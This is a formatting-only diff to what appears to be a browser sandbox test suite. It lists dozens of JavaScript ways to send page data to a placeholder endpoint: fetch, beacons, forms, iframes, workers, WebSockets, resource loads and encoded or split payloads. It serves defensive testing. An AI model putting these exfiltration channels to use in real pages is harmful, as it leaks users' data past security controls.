@@ -100,7 +100,9 @@ def _frame(name: str, attributes: str, frame: str = "") -> Way:
     )
 
 
-_OLD_WORKER = "addEventListener('message', e => e.waitUntil(fetch('$HIT', {method: 'POST', body: e.data})));"
+_OLD_WORKER = (
+    "addEventListener('message', e => e.waitUntil(fetch('$HIT', {method: 'POST', body: e.data})));"
+)
 _OLD_SOCKET = (
     "addEventListener('message', e => { const s = new WebSocket('$WS$HIT'); "
     "s.onopen = () => s.send(e.data); });"
@@ -140,9 +142,12 @@ WRITES = (
     _js("flood of 500 requests", "for (let i = 0; i < 500; i++) post(hit('?' + i + q()));"),
     _js("fetch POST", "post()"),
     _js("fetch keepalive", "fetch(hit(), {method: 'POST', body: v(), keepalive: true})"),
-    _js("fetch with a body that streams", """
+    _js(
+        "fetch with a body that streams",
+        """
         fetch(hit(), {method: 'POST', duplex: 'half', body: new ReadableStream({start(c) {
-        c.enqueue(new TextEncoder().encode(v())); c.close(); }})})"""),
+        c.enqueue(new TextEncoder().encode(v())); c.close(); }})})""",
+    ),
     *(
         _js(f"fetch {m}", f"fetch(hit(), {{method: '{m}', body: v()}})")
         for m in ("PUT", "PATCH", "DELETE", "EXFIL")
@@ -152,11 +157,17 @@ WRITES = (
         for m in ("HEAD", "OPTIONS")
     ),
     _js("XHR POST", "const x = new XMLHttpRequest(); x.open('POST', hit()); x.send(v());"),
-    _js("synchronous XHR", "const x = new XMLHttpRequest(); x.open('POST', hit(), false); x.send(v());"),
+    _js(
+        "synchronous XHR",
+        "const x = new XMLHttpRequest(); x.open('POST', hit(), false); x.send(v());",
+    ),
     _js("sendBeacon", "navigator.sendBeacon(hit(), v())"),
     _js("form.requestSubmit()", "form.requestSubmit()"),
     _js("form.submit()", "form.submit()"),
-    _js("javascript: address", "location = `javascript:void fetch('$HIT', {method: 'POST', body: v()})`"),
+    _js(
+        "javascript: address",
+        "location = `javascript:void fetch('$HIT', {method: 'POST', body: v()})`",
+    ),
     Way(
         "form in an iframe of the same origin, click",
         "let w; setup = async () => { w = add('iframe', {src: '$FRAME'}); await loaded(w); }; "
@@ -166,14 +177,20 @@ WRITES = (
     ),
     _frame("form in an iframe of another origin", "{src: '$OTHER$FRAME'}", _FRAME_SENDS),
     _frame("iframe srcdoc", "{srcdoc: `" + _FRAME_SENDS.replace("</script>", "<\\/script>") + "`}"),
-    _frame("iframe data:", "{src: `data:text/html," + _FRAME_POSTS.replace("</script>", "<\\/script>") + "`}"),
+    _frame(
+        "iframe data:",
+        "{src: `data:text/html," + _FRAME_POSTS.replace("</script>", "<\\/script>") + "`}",
+    ),
     _frame(
         "iframe blob:",
         "{src: URL.createObjectURL(new Blob([`"
         + _FRAME_POSTS.replace("</script>", "<\\/script>")
         + "`], {type: 'text/html'}))}",
     ),
-    _js("fetch borrowed from a blank frame", "add('iframe').contentWindow.fetch('$SELF$HIT', {method: 'POST', body: v()})"),
+    _js(
+        "fetch borrowed from a blank frame",
+        "add('iframe').contentWindow.fetch('$SELF$HIT', {method: 'POST', body: v()})",
+    ),
     _js("form into a frame", "add('iframe', {name: 'w'}); form.target = 'w'; form.submit();"),
     _js("form with target=_blank", "form.target = '_blank'; form.submit();"),
     Way(
@@ -181,10 +198,13 @@ WRITES = (
         "go = () => open('$FRAME?' + q())",
         frame="<script>fetch('$HIT', {method: 'POST', body: location.search})</script>",
     ),
-    _js("popup about:blank, filled by its opener", """
+    _js(
+        "popup about:blank, filled by its opener",
+        """
         const w = open('about:blank'); w.document.body.innerHTML = form.outerHTML;
         w.document.forms[0].action = '$SELF$HIT'; w.document.querySelector('input').value = v();
-        w.document.forms[0].submit();"""),
+        w.document.forms[0].submit();""",
+    ),
     _js("popup javascript:", "open(`javascript:opener.fetch('$SELF$HIT', {method: 'POST'})`)"),
     _js("new tab with noopener", "open(hit('?' + q()), '_blank', 'noopener')"),
     Way(
@@ -199,19 +219,34 @@ WRITES = (
         worker=_OLD_SOCKET,
         earlier=True,
     ),
-    _worker("dedicated worker", "new Worker('$SCRIPT')", "fetch('$HIT', {method: 'POST', body: data})"),
-    _worker("shared worker", "new SharedWorker('$SCRIPT')", "fetch('$HIT', {method: 'POST', body: data})"),
+    _worker(
+        "dedicated worker", "new Worker('$SCRIPT')", "fetch('$HIT', {method: 'POST', body: data})"
+    ),
+    _worker(
+        "shared worker",
+        "new SharedWorker('$SCRIPT')",
+        "fetch('$HIT', {method: 'POST', body: data})",
+    ),
     _worker(
         "worker in a worker",
         "new Worker('$SCRIPT')",
         "const b = new Blob([`fetch('$SELF$HIT', {method: 'POST', body: '${data}'})`]); "
         "new Worker(URL.createObjectURL(b));",
     ),
-    _js("worker blob:", """
+    _js(
+        "worker blob:",
+        """
         const b = new Blob([`fetch('$SELF$HIT', {method: 'POST', body: '${v()}'})`]);
-        new Worker(URL.createObjectURL(b));"""),
-    Way("beacon in pagehide", "onpagehide = () => navigator.sendBeacon(hit(), v())", trigger="leave"),
-    Way("keepalive in pagehide", "onpagehide = () => fetch(hit(), {method: 'POST', body: v(), keepalive: true})", trigger="close"),
+        new Worker(URL.createObjectURL(b));""",
+    ),
+    Way(
+        "beacon in pagehide", "onpagehide = () => navigator.sendBeacon(hit(), v())", trigger="leave"
+    ),
+    Way(
+        "keepalive in pagehide",
+        "onpagehide = () => fetch(hit(), {method: 'POST', body: v(), keepalive: true})",
+        trigger="close",
+    ),
     Way(
         "sends when the tab is hidden",
         "document.onvisibilitychange = onblur = () => navigator.sendBeacon(hit(), v())",
@@ -223,8 +258,15 @@ WRITES = (
         "typed(() => fetchLater(hit(), {method: 'POST', body: v()}))",
         trigger="close",
     ),
-    Way("beacon of a renderer that crashes", "typed(() => navigator.sendBeacon(hit(), v()))", trigger="crash"),
-    _js("a ping", "const a = add('a', {href: '#x', ping: hit('?' + q())}); a.textContent = 'x'; a.click();"),
+    Way(
+        "beacon of a renderer that crashes",
+        "typed(() => navigator.sendBeacon(hit(), v()))",
+        trigger="crash",
+    ),
+    _js(
+        "a ping",
+        "const a = add('a', {href: '#x', ping: hit('?' + q())}); a.textContent = 'x'; a.click();",
+    ),
     Way(
         "CSP violation report",
         "go = () => add('img', {src: 'https://127.0.0.1:9/?' + q()})",
@@ -247,14 +289,29 @@ READS = (
     _js("button with formmethod=get", "send.formMethod = 'get'; send.click();"),
     _js("fetch GET with data", "fetch(hit('?' + q()))"),
     _js("fetch GET, base64", "fetch(hit('?' + btoa(v())))"),
-    _js("fetch GET, hex", "fetch(hit('?' + Array.from(v(), c => c.charCodeAt(0).toString(16)).join('')))"),
+    _js(
+        "fetch GET, hex",
+        "fetch(hit('?' + Array.from(v(), c => c.charCodeAt(0).toString(16)).join('')))",
+    ),
     _js("fetch GET, backwards", "fetch(hit('?' + [...v()].reverse().join('')))"),
-    _js("fetch GET, every letter moved by 13", """
-        fetch(hit('?' + v().replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97))))"""),
-    _js("fetch GET, split over parameters", "fetch(hit(`?a=${v().slice(0, 8)}&b=${v().slice(8, 16)}&c=${v().slice(16)}`))"),
+    _js(
+        "fetch GET, every letter moved by 13",
+        """
+        fetch(hit('?' + v().replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97))))""",
+    ),
+    _js(
+        "fetch GET, split over parameters",
+        "fetch(hit(`?a=${v().slice(0, 8)}&b=${v().slice(8, 16)}&c=${v().slice(16)}`))",
+    ),
     _js("fetch GET, split over the path", "fetch(hit('/' + [...v()].join('/')))"),
-    _js("one image for every character", "[...v()].forEach((c, i) => add('img', {src: hit(`?${i}=${c}`)}))"),
-    _js("one image path for every character", "[...v()].forEach(c => add('img', {src: hit(`/${c.charCodeAt(0)}.png`)}))"),
+    _js(
+        "one image for every character",
+        "[...v()].forEach((c, i) => add('img', {src: hit(`?${i}=${c}`)}))",
+    ),
+    _js(
+        "one image path for every character",
+        "[...v()].forEach(c => add('img', {src: hit(`/${c.charCodeAt(0)}.png`)}))",
+    ),
     Way(
         "addresses known before, in the order of the characters",
         "const alphabet = [...'@.abcdefghijklmnopqrstuvwxyz']; "
@@ -263,7 +320,10 @@ READS = (
     ),
     _js("a header", "fetch(hit(), {headers: {'x-data': q()}})"),
     _js("a cookie and a plain GET", "document.cookie = 'd=' + q(); fetch(hit());"),
-    _js("the address as Referer", "history.replaceState(0, '', '?' + q()); fetch(hit(), {referrerPolicy: 'unsafe-url'});"),
+    _js(
+        "the address as Referer",
+        "history.replaceState(0, '', '?' + q()); fetch(hit(), {referrerPolicy: 'unsafe-url'});",
+    ),
     _js("EventSource", "new EventSource(hit('?' + q()))"),
     _js("image GET with data", "new Image().src = hit('?' + q())"),
     _js("CSS url()", "document.body.style.background = `url('${hit('?' + q())}')`"),
@@ -276,30 +336,50 @@ READS = (
     _js("CSS @import", "add('style').textContent = `@import '${hit('?' + q())}'`"),
     _js("web font", "new FontFace('x', `url(${hit('?' + q())})`).load().catch(() => 0)"),
     *(
-        _js(f"link rel={rel}", f"add('link', {{rel: '{rel}', href: hit('?' + q()), as: '{kind}'}}, document.head)")
+        _js(
+            f"link rel={rel}",
+            f"add('link', {{rel: '{rel}', href: hit('?' + q()), as: '{kind}'}}, document.head)",
+        )
         for rel, kind in (
             *((rel, "fetch") for rel in ("preload", "prefetch", "manifest", "icon", "prerender")),
             ("stylesheet", "style"),
             ("modulepreload", "script"),
         )
     ),
-    _js("speculation rules, prefetch", """
+    _js(
+        "speculation rules, prefetch",
+        """
         add('script', {type: 'speculationrules'}).textContent = JSON.stringify(
-        {prefetch: [{urls: [hit('?' + q())], eagerness: 'immediate'}]})"""),
-    _js("speculation rules, prerender", """
+        {prefetch: [{urls: [hit('?' + q())], eagerness: 'immediate'}]})""",
+    ),
+    _js(
+        "speculation rules, prerender",
+        """
         add('script', {type: 'speculationrules'}).textContent = JSON.stringify(
-        {prerender: [{urls: [hit('?' + q())], eagerness: 'immediate'}]})"""),
+        {prerender: [{urls: [hit('?' + q())], eagerness: 'immediate'}]})""",
+    ),
     _js("script", "add('script', {src: hit('?' + q())})"),
     _js("import()", "import(hit('?' + q())).catch(() => 0)"),
     _js("AudioWorklet", "new AudioContext().audioWorklet.addModule(hit('?' + q())).catch(() => 0)"),
     _js("worker's own address", "new Worker(hit('?' + q()))"),
-    _js("new service worker's address", "navigator.serviceWorker.register(hit('?' + q())).catch(() => 0)"),
+    _js(
+        "new service worker's address",
+        "navigator.serviceWorker.register(hit('?' + q())).catch(() => 0)",
+    ),
     *(
         _js(f"{tag}", f"add('{tag}', {{{attribute}: hit('?' + q())}})")
-        for tag, attribute in (("iframe", "src"), ("object", "data"), ("embed", "src"), ("audio", "src"))
+        for tag, attribute in (
+            ("iframe", "src"),
+            ("object", "data"),
+            ("embed", "src"),
+            ("audio", "src"),
+        )
     ),
     _js("video poster", "add('video', {poster: hit('?' + q())})"),
-    _js("SVG image", "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${hit('?' + q())}'/></svg>`)"),
+    _js(
+        "SVG image",
+        "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${hit('?' + q())}'/></svg>`)",
+    ),
     _js("attributionsrc", "add('img', {attributionsrc: hit('?' + q())})"),
     _js("download", "add('a', {href: hit('?' + q()), download: 'x'}).click()"),
     _js("navigation with data", "location = hit('?' + q())"),
@@ -314,7 +394,10 @@ READS = (
         frame="<script>fetch('$HIT?' + location.hash.slice(1))</script>",
     ),
     _js("reload after pushState", "history.pushState(0, '', hit('?' + q())); location.reload();"),
-    _js("meta refresh", "add('meta', {'http-equiv': 'refresh', content: '0;url=' + hit('?' + q())}, document.head)"),
+    _js(
+        "meta refresh",
+        "add('meta', {'http-equiv': 'refresh', content: '0;url=' + hit('?' + q())}, document.head)",
+    ),
 )
 
 BESIDE_HTTP = (
@@ -325,16 +408,40 @@ BESIDE_HTTP = (
         "go = () => s.send(v());",
     ),
     _js("WebSocket", "new WebSocket('$WS$HIT?' + q())"),
-    _js("WebSocket in a blank frame", "new (add('iframe').contentWindow.WebSocket)('$WS$HIT?' + q())"),
-    _js("WebSocket in a data: frame", """
-        add('iframe', {src: `data:text/html,<script>new WebSocket('$WS$HIT?${q()}')<\\/script>`})"""),
-    _js("WebSocket in a popup", """
-        const w = open('about:blank'); new w.WebSocket('$WS$HIT?' + q());"""),
-    _worker("WebSocket in a dedicated worker", "new Worker('$SCRIPT')", "new WebSocket('$WS$HIT?' + encodeURIComponent(data))"),
-    _worker("WebSocket in a module worker", "new Worker('$SCRIPT', {type: 'module'})", "new WebSocket('$WS$HIT?' + encodeURIComponent(data))"),
-    _worker("WebSocket in a shared worker", "new SharedWorker('$SCRIPT')", "new WebSocket('$WS$HIT?' + encodeURIComponent(data))"),
-    _js("WebSocket in a worker blob:", """
-        new Worker(URL.createObjectURL(new Blob([`new WebSocket('$WS$HIT?${q()}')`])))"""),
+    _js(
+        "WebSocket in a blank frame",
+        "new (add('iframe').contentWindow.WebSocket)('$WS$HIT?' + q())",
+    ),
+    _js(
+        "WebSocket in a data: frame",
+        """
+        add('iframe', {src: `data:text/html,<script>new WebSocket('$WS$HIT?${q()}')<\\/script>`})""",
+    ),
+    _js(
+        "WebSocket in a popup",
+        """
+        const w = open('about:blank'); new w.WebSocket('$WS$HIT?' + q());""",
+    ),
+    _worker(
+        "WebSocket in a dedicated worker",
+        "new Worker('$SCRIPT')",
+        "new WebSocket('$WS$HIT?' + encodeURIComponent(data))",
+    ),
+    _worker(
+        "WebSocket in a module worker",
+        "new Worker('$SCRIPT', {type: 'module'})",
+        "new WebSocket('$WS$HIT?' + encodeURIComponent(data))",
+    ),
+    _worker(
+        "WebSocket in a shared worker",
+        "new SharedWorker('$SCRIPT')",
+        "new WebSocket('$WS$HIT?' + encodeURIComponent(data))",
+    ),
+    _js(
+        "WebSocket in a worker blob:",
+        """
+        new Worker(URL.createObjectURL(new Blob([`new WebSocket('$WS$HIT?${q()}')`])))""",
+    ),
     _js("WebSocket in a worker data:", "new Worker(`data:,new WebSocket('$WS$HIT?${q()}')`)"),
     _worker(
         "WebSocketStream in a worker",
@@ -370,7 +477,11 @@ BESIDE_HTTP = (
         worker="onmessage = e => new WebTransport('https://127.0.0.1:$PORT/' + e.data);",
         port="udp",
     ),
-    _js("link rel=preconnect", "add('link', {rel: 'preconnect', href: 'http://127.0.0.1:$PORT'}, document.head)", port="tcp"),
+    _js(
+        "link rel=preconnect",
+        "add('link', {rel: 'preconnect', href: 'http://127.0.0.1:$PORT'}, document.head)",
+        port="tcp",
+    ),
     Way(
         "background fetch",
         f"setup = async () => {{ {_REGISTER}; }}; "
@@ -378,12 +489,18 @@ BESIDE_HTTP = (
         ".backgroundFetch.fetch('x', [hit('?' + q())])",
         worker="onfetch = () => {}",
     ),
-    _js("payment method's address", """
+    _js(
+        "payment method's address",
+        """
         new PaymentRequest([{supportedMethods: '$SELF' + hit('?' + q())}],
-        {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)"""),
-    _js("federated sign-in's address", """
+        {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)""",
+    ),
+    _js(
+        "federated sign-in's address",
+        """
         navigator.credentials.get({identity: {providers: [{configURL: '$SELF' + hit('?' + q()),
-        clientId: v()}]}}).catch(() => 0)"""),
+        clientId: v()}]}}).catch(() => 0)""",
+    ),
 )
 
 WAYS = (*WRITES, *READS, *BESIDE_HTTP)
